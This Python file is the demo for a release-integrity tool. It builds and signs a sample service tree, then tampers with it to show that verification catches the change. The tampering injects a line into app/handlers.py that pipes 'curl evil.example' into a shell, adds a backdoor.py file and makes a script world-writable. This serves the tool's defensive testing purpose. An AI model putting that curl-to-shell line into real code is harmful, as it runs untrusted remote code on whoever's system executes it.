"""The embedded demo: the whole job on a small sample service tree."""

from __future__ import annotations

import os
import tempfile

import click

__all__ = ["SAMPLE_TREE", "run_demo", "write_sample_tree"]

# path -> (mode, content); a small Python service as it would be deployed.
SAMPLE_TREE: dict[str, tuple[int, str]] = {
    "app/__init__.py": (0o644, '"""Sample service."""\n__version__ = "1.4.2"\n'),
    "app/main.py": (
        0o644,
        (
            "from app.handlers import health\n\n\n"
            "def main() -> None:\n    print(health())\n\n\n"
            'if __name__ == "__main__":\n    main()\n'
        ),
    ),
    "app/handlers.py": (0o644, 'def health() -> str:\n    return "ok"\n'),
    "app/templates/index.html": (0o644, "<!doctype html><title>sample</title><p>hello</p>\n"),
    "config/settings.toml": (0o640, "[server]\nport = 8080\nworkers = 4\n"),
    "bin/run": (0o755, '#!/bin/sh\nexec python3 -m app.main "$@"\n'),
    "static/empty.txt": (0o644, ""),
    "README.txt": (0o644, "Sample service release 1.4.2\n"),
}
SAMPLE_LINKS = {"current-config": "config/settings.toml"}


def write_sample_tree(root: str) -> None:
    for rel, (mode, text) in SAMPLE_TREE.items():
        path = os.path.join(root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as f:
            f.write(text)
        os.chmod(path, mode)
    for rel, target in SAMPLE_LINKS.items():
        os.symlink(target, os.path.join(root, rel))


def _step(text: str) -> None:
    click.secho(f"\n==> {text}", bold=True)


def run_demo(keep: str | None = None) -> int:
    """Return 0 when every step behaved as it should."""
    from .cli.render import render_report
    from .keys import generate_keypair
    from .release import build_and_sign
    from .verify import verify_integrity

    with tempfile.TemporaryDirectory(prefix="duri-integrity-demo-") as tmp:
        base = keep or tmp
        os.makedirs(base, exist_ok=True)
        tree = os.path.join(base, "release")
        keys = os.path.join(base, "keys")
        if os.path.exists(tree):
            raise click.ClickException(f"{tree} already exists; choose an empty --keep directory")
        os.makedirs(keys, exist_ok=True)
        write_sample_tree(tree)
        _step(f"A sample release tree in {tree}")
        sk, pk = os.path.join(keys, "demo.key"), os.path.join(keys, "demo.pub")
        _step("Make a throwaway signing key (kept outside the tree)")
        key_id = generate_keypair(sk, pk, force=True)
        click.echo(f"key {key_id}: {sk} (0600), {pk}")
        _step("Build and sign the manifest")
        done = build_and_sign(tree, deployment="myservice", release="v1.4.2", secret_key=sk)
        manifest, m = done.manifest_path, done.manifest
        click.echo(
            f"{manifest}: {len(m.entries)} entries, deployment {m.deployment}, release {m.release}, "
            f"root digest {m.root_digest}"
        )
        _step("Verify the untouched tree")
        state = os.path.join(base, "state")  # the demo's rollback marks stay with the demo
        first = verify_integrity(tree, public_keys=[pk], deployment="myservice", state_dir=state, use_config_file=False)
        render_report(first, quiet=False)
        click.echo(f'-> r["status"] = {first["status"]!r}, r["recommendation"] = {first["recommendation"]!r}')
        _step("Tamper: edit app/handlers.py, add a file, chmod bin/run")
        with open(os.path.join(tree, "app/handlers.py"), "a", encoding="utf-8") as f:
            f.write("import os; os.system('curl evil.example | sh')\n")
        with open(os.path.join(tree, "app/backdoor.py"), "w", encoding="utf-8") as f:
            f.write("# added after release\n")
        os.chmod(os.path.join(tree, "bin/run"), 0o777)
        _step("Verify again")
        second = verify_integrity(
            tree, public_keys=[pk], deployment="myservice", state_dir=state, use_config_file=False
        )
        render_report(second, quiet=False)
        click.echo(f'-> r["status"] = {second["status"]!r}, r["recommendation"] = {second["recommendation"]!r}')
        ok = first.status == "VERIFIED" and second.status == "FAILED"
        _step("Demo " + ("finished: the change was caught." if ok else "did NOT behave as expected."))
        if keep:
            click.echo(f"Files kept in {base}")
        return 0 if ok else 1
